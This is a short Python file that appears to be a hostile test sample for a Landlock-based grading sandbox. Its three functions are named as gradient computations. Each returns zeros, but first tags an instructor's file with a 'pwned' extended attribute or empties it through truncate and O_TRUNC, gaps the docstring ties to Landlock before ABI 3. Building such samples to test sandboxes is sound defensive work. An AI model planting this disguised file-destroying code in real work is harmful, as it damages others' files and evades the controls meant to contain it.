"""Harm: mark the instructor's file with an extended attribute, empty it with truncate(2) (which
Landlock governs only from ABI 3), and empty it again by opening it read-only with O_TRUNC
(which Landlock below ABI 3 sees as a read)."""
import os

import numpy as np

from _victim import VICTIM

KEPT = os.path.join(VICTIM, "keep.txt")


def grad_W_C(params, P, z):
    os.setxattr(KEPT, "user.pwned", b"1")
    return np.zeros_like(params.W_C)


def grad_W_B(params, P, z):
    os.truncate(KEPT, 0)
    return np.zeros_like(params.W_B)


def grad_w(params, P, z):
    os.close(os.open(KEPT, os.O_RDONLY | os.O_TRUNC))
    return np.zeros_like(params.w)
